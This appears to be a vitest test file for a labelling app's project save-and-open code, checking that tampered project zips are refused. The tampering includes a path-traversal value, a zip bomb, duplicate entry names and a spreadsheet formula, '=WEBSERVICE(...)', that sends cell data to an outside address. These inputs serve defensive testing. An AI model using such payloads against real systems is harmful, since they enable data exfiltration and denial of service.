/** @file A project as one file: out, gone, in again; and files that nobody should trust. */
import { BlobWriter, TextReader, Uint8ArrayReader, ZipWriter } from '@zip.js/zip.js';
import { afterEach, beforeAll, describe, expect, test } from 'vitest';
import { MOST_ANNOTATORS } from '../../../../src/core/project-file/manifest';
import { annotate } from '../../../../src/pipeline/teach/annotate';
import { answerAudit, beginAudit } from '../../../../src/pipeline/audit/audit';
import { measureAudit } from '../../../../src/pipeline/audit/audit-figures';
import { noteReplaced } from '../../../../src/pipeline/teach/improve-label';
import { distil } from '../../../../src/pipeline/train/distil';
import { labelsFile } from '../../../../src/pipeline/files/label-files';
import { setLabel } from '../../../../src/pipeline/human-labels';
import { isProjectFile } from '../../../../src/pipeline/files/project/is-project-file';
import { openProjectFile } from '../../../../src/pipeline/files/project/open-project-file';
import { saveProject } from '../../../../src/pipeline/files/project/save-project';
import { deleteProject, listProjects, openProject } from '../../../../src/pipeline/projects';
import { relabel } from '../../../../src/pipeline/label/relabel';
import { makeReport } from '../../../../src/pipeline/files/report';
import { importStudent } from '../../../../src/pipeline/files/import-student';
import { exportStudent } from '../../../../src/pipeline/files/student-file';
import { settle } from '../../../../src/pipeline/audit/annotators';
import { putAnnotator } from '../../../../src/persist/annotators';
import { allHumanLabels } from '../../../../src/persist/human-labels';
import { getAuditDesign } from '../../../../src/persist/audit-designs';
import { database } from '../../../../src/persist/database';
import { updateProject } from '../../../../src/persist/projects';
import { countRecords, deleteAllProjects } from '../../../helpers/project-records';
import { readZip, zipEntry } from '../../../helpers/files/read-back';
import { topicFile, topicProject, topicRecipe, unstopped } from '../../../helpers/topic-project';
import { topicData } from '../../../helpers/topics';

const DATA = topicData(31, { rows: 1100 });
const ignoreProgress = { onProgress: () => undefined };

/** What the project and everything derived from it says. */
async function all(id: string): Promise<object> {
  return {
    project: { ...(await openProject(id)), id: null, updatedAt: null },
    labels: await (await labelsFile(id)).text(),
    rows: await relabel(id),
    report: await makeReport(id),
    audit: JSON.stringify(await measureAudit(id)),
    counts: { ...(await countRecords(id)), candidates: 0 },
  };
}

/** How many records each store holds. */
async function stored(): Promise<object> {
  const db = await database();
  const counts: [string, number][] = [];
  for (const store of db.objectStoreNames) counts.push([store, await db.count(store)]);
  return Object.fromEntries(counts);
}

describe('a project', () => {
  test('saved, deleted and opened again says what it said', async () => {
    const file = topicFile(DATA, (_, row) => (row % 8 === 0 ? { split: 'test' } : {}));
    const recipe = topicRecipe(DATA.labels, {
      labels: { policy: 'auto' },
      refinery: { compareSingle: true, folds: 2 },
    });
    const id = await topicProject(file, recipe);
    await annotate(id, unstopped());
    await distil(id, unstopped());
    // What is to be known of a training: codes, and the sentence that it was before there were any.
    await updateProject(id, ({ trainings: { student, single } }) => ({
      trainings: {
        ...(student && { student: { ...student, notice: [{ code: 'training-no-gpu' }] } }),
        ...(single && { single: { ...single, notice: 'The GPU was lost.' } }),
      },
    }));
    await setLabel(id, 3, DATA.labels[0] ?? '');
    await beginAudit(id, 40, 5);
    const audit = await getAuditDesign(id);
    for (const index of audit?.sample.subarray(0, 30) ?? []) {
      const row = audit?.population[index] ?? -1;
      const label = DATA.labels[DATA.gold[row] ?? -1] ?? '';
      await answerAudit(id, row, { human: { label, origin: 'audit' }, isSkipped: false });
    }
    await answerAudit(id, audit?.population[audit.sample[30] ?? 0] ?? -1, {
      human: null,
      isSkipped: true,
    });
    await putAnnotator({
      ...{ projectId: id, name: 'Ann', createdAt: 5, isBlind: true },
      labels: [...(await allHumanLabels(id))].map(([row, { label }]) => [row, label]),
    });
    await settle(id, 3, DATA.labels[1] ?? '');
    const [label = ''] = DATA.labels;
    await noteReplaced(id, { before: { name: label }, after: { name: label, description: 'x' } });
    const before = await all(id);
    const saved = new File([await saveProject(id)], 'mine.zip');
    await deleteProject(id);
    expect(await isProjectFile(saved)).toBe(true);
    const opened = await openProjectFile(saved, ignoreProgress);
    expect(opened.id).not.toBe(id);
    expect(await all(opened.id)).toEqual(before);
    expect(opened).toMatchObject({ stage: 'done', fileName: 'topics.csv' });
    // Its student is the trained one: it can leave the page, and nothing is trained anew for it.
    const { signal } = new AbortController();
    expect((await exportStudent(opened.id, signal, () => undefined)).size).toBeGreaterThan(1000);
    await deleteAllProjects();
  });

  test('that labels with a student from elsewhere brings it along', async () => {
    const trained = await topicProject(topicFile(DATA), topicRecipe(DATA.labels));
    await annotate(trained, unstopped());
    await distil(trained, unstopped());
    const { signal } = new AbortController();
    const student = await exportStudent(trained, signal, () => undefined);
    const recipe = await importStudent(new File([student], 'student.zip'));
    const id = await topicProject(topicFile(DATA), recipe);
    await annotate(id, unstopped());
    await distil(id, unstopped());
    const before = await relabel(id);
    const saved = new File([await saveProject(id)], 'labelled.shortlist');
    const db = await database();
    await db.clear('students');
    const again = await openProjectFile(saved, ignoreProgress);
    expect(again.recipe?.student.pretrained).toBe(recipe.student.pretrained);
    expect(await db.count('students')).toBe(1);
    expect(await relabel(again.id)).toEqual(before);
    await deleteAllProjects();
    await db.clear('students');
  });

  test('that is only a table comes back as one', async () => {
    const id = await topicProject(topicFile(DATA), topicRecipe(DATA.labels));
    const saved = new File([await saveProject(id)], 'table.shortlist');
    const again = await openProjectFile(saved, ignoreProgress);
    expect(await countRecords(again.id)).toEqual(await countRecords(id));
    await deleteAllProjects();
  });
});

describe('a file that is no sound project', () => {
  /** The texts of a sound file's parts. */
  let sound: Map<string, string>;
  let emptyStores: object;

  beforeAll(async () => {
    const id = await topicProject(topicFile(DATA), topicRecipe(DATA.labels));
    await annotate(id, unstopped());
    await setLabel(id, 3, DATA.labels[0] ?? '');
    await beginAudit(id, 40, 5);
    const file = await saveProject(id);
    sound = await readZip(file);
    for (const name of [...sound.keys()].filter((part) => part.startsWith('numbers/'))) {
      const bytes = new Uint8Array(await (await zipEntry(file, name)).arrayBuffer());
      sound.set(name, String.fromCharCode(...bytes));
    }
    await deleteAllProjects();
    emptyStores = await stored();
  });

  afterEach(async () => {
    expect(await listProjects()).toEqual([]);
    expect(await stored()).toEqual(emptyStores);
  });

  type Part = [name: string, text: string];

  async function zipped(parts: Iterable<Part>): Promise<File> {
    const zip = new ZipWriter(new BlobWriter());
    for (const [name, text] of parts) {
      const reader = name.startsWith('numbers/')
        ? new Uint8ArrayReader(Uint8Array.from(text, (c) => c.charCodeAt(0)))
        : new TextReader(text);
      await zip.add(name, reader);
    }
    return new File([await zip.close()], 'theirs.shortlist');
  }

  /** The sound file with a part changed; null leaves it out. */
  const changed = (name: string, change: (text: string) => string | null) =>
    zipped(
      [...sound].flatMap(([part, text]): Part[] => {
        const now = part === name ? change(text) : text;
        return now === null ? [] : [[part, now]];
      }),
    );

  /** The sound file with its manifest changed at a path. */
  const claiming = (path: string, value: unknown) =>
    changed('manifest.json', (text) => {
      const manifest = JSON.parse(text) as Record<string, unknown>;
      const keys = path.split('.');
      const last = keys.pop() ?? '';
      let place = manifest;
      for (const key of keys) place = place[key] as Record<string, unknown>;
      place[last] = value;
      return JSON.stringify(manifest);
    });

  const refusal = (file: File) =>
    openProjectFile(file, ignoreProgress).then(
      () => 'opened',
      (error: unknown) =>
        error instanceof Error && error.name === 'ProjectFileError' ? error.message : String(error),
    );

  test('is told from a sound one, which opens', async () => {
    const project = await openProjectFile(await zipped(sound), ignoreProgress);
    await deleteProject(project.id);
  });

  test.each([
    ['that is no zip file', () => new File(['hello'], 'theirs.shortlist'), /damaged/],
    ['that is cut off', async () => cut(await zipped(sound)), /damaged/],
    [
      'without a manifest',
      () => changed('manifest.json', () => null),
      /part-missing.*manifest\.json/,
    ],
    ['without its rows', () => changed('rows.jsonl', () => null), /part-missing.*rows\.jsonl/],
    ['without numbers', () => changed('numbers/0', () => null), /part-missing.*numbers\/0/],
    ['with too few rows', () => changed('rows.jsonl', firstLines(1000)), /rows-missing/],
    ['with too many rows', () => changed('rows.jsonl', (t) => t + firstLines(1)(t)), /rows-many/],
    ['with short rows', () => changed('rows.jsonl', (t) => t.replace('["0",', '[')), /row-cells/],
    [
      'with a row of numbers',
      () => changed('rows.jsonl', (t) => `[1]\n${t}`),
      /line-wrong.*"line":1,/,
    ],
    [
      'with half a line',
      () => changed('rows.jsonl', (t) => t.slice(0, -20)),
      /part-cut|line-no-json/,
    ],
    ['with a label of row a million', () => changed('labels.jsonl', farRow), /row-unknown/],
    [
      'with candidates of other labels',
      () => changed('candidates.jsonl', otherLabel),
      /project-file-candidates/,
    ],
    ['with a short audit', () => changed('numbers/1', (t) => t.slice(1)), /part-cut/],
    [
      'with an audit of other rows',
      () => changed('numbers/0', (t) => `\xff${t.slice(1)}`),
      /project-file-audit/,
    ],
    ['with a number as name', () => claiming('project.name', 7), /"project.name"/],
    [
      'with a broken recipe',
      () => claiming('project.recipe.task.labels', []),
      /recipe.task.labels/,
    ],
    [
      'with a task of other columns',
      () => claiming('project.recipe.task.textColumn', 'x'),
      /columns-missing/,
    ],
    [
      'with two columns of one name',
      () => claiming('project.columns', Array(5).fill('a')),
      /columns-equal/,
    ],
    [
      'with more words than a recipe may have',
      () => claiming('project.recipe.task.labels.0.keywords', Array(700_000).fill('a word')),
      /project\.recipe.*text-long/,
    ],
    [
      'with more labels than a page can show',
      () =>
        claiming(
          'project.recipe.task.labels',
          Array.from({ length: 5_001 }, (_, i) => ({ name: `label ${i}` })),
        ),
      /recipe\.task\.labels.*list-long/,
    ],
    [
      'with more columns than a page can show',
      () => claiming('project.columns', Array(20_000).fill('a')),
      /project.columns/,
    ],
    [
      'whose cells are parted by quotation marks',
      () => claiming('project.dialect.delimiter', '"'),
      /dialect.delimiter/,
    ],
    [
      'with more in a cell than a table may have',
      () => changed('rows.jsonl', (t) => t.replace('["0",', `["${'x'.repeat(10_000_001)}",`)),
      /line-wrong.*"line":1,/,
    ],
    [
      'of a day that no calendar has',
      () => claiming('project.createdAt', 1e300),
      /project.createdAt/,
    ],
    ['with an audit of no day', () => claiming('audit.createdAt', -1e300), /audit.createdAt/],
    [
      'with empty rows that are others once they are 32 bits long',
      () => claiming('project.emptyRows', [2 ** 32 + 1]),
      /rows-named/,
    ],
    ['with a header of fewer columns', () => claiming('project.header', ['a']), /columns-missing/],
    [
      'with one part for two things',
      () => claiming('audit.sample', { file: 'numbers/0', type: 'int32', length: 1 }),
      /part-reused.*numbers\/0/,
    ],
    ['with a second chunk and no first', () => claiming('distributions', [chunkOf(1)]), WRONG],
    ['with a chunk twice', () => claiming('distributions', [chunkOf(0), chunkOf(0)]), WRONG],
    [
      'with a student for other labels',
      () => claiming('project.trainings', { student: { ...TRAINING, labels: ['a', 'b'] } }),
      /student-labels/,
    ],
    [
      'with a student that learned from rows that there are not',
      () =>
        claiming('project.trainings', { student: { ...TRAINING, humanTargets: [[9999, 'a']] } }),
      /rows-named/,
    ],
    ['with a path for a file', () => claiming('audit.population.file', '../x'), /audit.population/],
    [
      'with scores that come to no number',
      () => changed('candidates.jsonl', hugeScores),
      /line-wrong.*"line":1,/,
    ],
    [
      'with more views than anybody keeps',
      () => claiming('project.views', Array(1001).fill({ name: 'a', query: '' })),
      /project.views/,
    ],
    [
      'with more warnings than anybody reads',
      () => claiming('project.warnings', Array(100_001).fill({ message: 'a' })),
      /project.warnings/,
    ],
    [
      'with more colours than labels',
      () => claiming('project.labelNumbers', Array(100_001).fill(['a', 0])),
      /project.labelNumbers/,
    ],
    [
      'with a student that learned from more labels than there are rows',
      () =>
        claiming('project.trainings', {
          student: { ...TRAINING, humanTargets: Array(10_000).fill([0, 'a']) },
        }),
      /rows-named/,
    ],
    [
      'with more epochs than a recipe may have',
      () =>
        claiming('project.trainings', {
          student: { ...TRAINING, epochs: Array(1001).fill(EPOCH) },
        }),
      /student.epochs/,
    ],
    [
      'with more candidates than rows',
      () => changed('candidates.jsonl', (t) => t.repeat(2)),
      /part-long.*candidates/,
    ],
    [
      'with rounds without an end',
      () => changed('rounds.jsonl', () => ROUNDS),
      /part-long.*rounds/,
    ],
    [
      'with a person who labelled more rows than there are',
      () => changed('annotators.jsonl', () => BUSY),
      /part-long.*annotators/,
    ],
    ['with a crowd of annotators', () => changed('annotators.jsonl', () => CROWD), /part-long/],
    ['with no task but labels', () => claiming('project.recipe', null), /project-file-no-task/],
    ['of the future', () => claiming('version', 2), /project-file-newer/],
    ['of no version', () => claiming('version', 'x'), /"version"/],
  ] as const)('%s is refused, and nothing of it stays', async (_, make, message) => {
    const text = await refusal(await make());
    expect(text).toMatch(message);
    expect(text).toMatch(/^project-file-unusable .*theirs\.shortlist/);
  });

  test('with a note that a spreadsheet would run gives it to none', async () => {
    const mark = { row: 3, isFlagged: true, note: '=WEBSERVICE("http://192.0.2.1/"&A1)' };
    const file = await changed('marks.jsonl', () => `${JSON.stringify(mark)}\n`);
    const { id } = await openProjectFile(file, ignoreProgress);
    const labels = await (await labelsFile(id)).text();
    expect(labels).toContain(`flagged,"'=WEBSERVICE(`);
    await deleteProject(id);
  });

  test('with two parts of one name is refused', async () => {
    const file = await zipped(
      [...sound].map(([name, text]): Part => [name === 'rounds.jsonl' ? 'rows.jsonX' : name, text]),
    );
    const bytes = new Uint8Array(await file.arrayBuffer());
    const text = Array.from(bytes, (byte) => String.fromCharCode(byte)).join('');
    const renamed = text.replaceAll('rows.jsonX', 'rows.jsonl');
    const twice = new File([Uint8Array.from(renamed, (c) => c.charCodeAt(0))], 'theirs.shortlist');
    expect(await refusal(twice)).toMatch(/part-twice.*rows\.jsonl/);
  });

  test('that unpacks to far more than it is does not fill the disk', async () => {
    const million = ' '.repeat(1_000_000);
    const bomb = new ZipWriter(new BlobWriter());
    for (const [name, text] of sound) {
      if (name !== 'rows.jsonl') await bomb.add(name, new TextReader(text));
    }
    let left = 300;
    const readable = new ReadableStream<Uint8Array>({
      pull(controller) {
        if (left-- > 0) controller.enqueue(new TextEncoder().encode(million));
        else controller.close();
      },
    });
    await bomb.add('rows.jsonl', readable);
    const file = new File([await bomb.close()], 'theirs.shortlist');
    expect(file.size).toBeLessThan(2_000_000);
    expect(await refusal(file)).toMatch(/project-file-bursts/);
  });

  test('with changed bytes is damaged', async () => {
    const file = await zipped(sound);
    const bytes = new Uint8Array(await file.arrayBuffer());
    const middle = Math.floor(bytes.length / 3);
    bytes[middle] = (bytes[middle] ?? 0) ^ 0xff;
    expect(await refusal(new File([bytes], 'theirs.shortlist'))).toMatch(
      /damaged|line-wrong|no-json/,
    );
  });
});

const WRONG = /project-file-distributions/;
const chunkOf = (chunk: number) => ({
  ...{ training: 'student', chunk },
  values: { file: `numbers/${chunk}`, type: 'float32', length: 1 },
});
const TRAINING = {
  ...{ seconds: 1, trainRows: 1, parameters: 1, executionProvider: 'wasm', threads: 1 },
  ...{ adapter: '', notice: null, epochs: [] },
};
const EPOCH = {
  ...{ epoch: 1, loss: 1, inside: 1, reliable: 1, confidentOutside: 1 },
  ...{ trainAccuracy: null, testAccuracy: null },
};
const ROUNDS = '{"round":0,"rows":[0],"outcome":null}\n'.repeat(10_001);
const BUSY = `${JSON.stringify({ name: 'a', createdAt: 0, isBlind: false, labels: Array(1101).fill([0, 'a']) })}\n`;
const CROWD = Array.from(
  { length: MOST_ANNOTATORS + 2 },
  (_, i) =>
    `${JSON.stringify({ name: `${i}`, createdAt: 0, isBlind: false, labels: [[0, 'a']] })}\n`,
).join('');
const hugeScores = (text: string) => {
  const [first = '', ...rest] = text.split('\n');
  const annotation = JSON.parse(first) as { candidates: string[] };
  const scores = annotation.candidates.map(() => 1e308);
  return [JSON.stringify({ ...annotation, scores }), ...rest].join('\n');
};
const cut = (file: File) => new File([file.slice(0, file.size / 2)], file.name);
const firstLines = (count: number) => (text: string) =>
  `${text.split('\n').slice(0, count).join('\n')}\n`;
const farRow = (text: string) => text.replace(/"row":\d+/, '"row":1000000');
const otherLabel = (text: string) => text.replace(/"candidates":\["/, '"candidates":["Nothing of ');
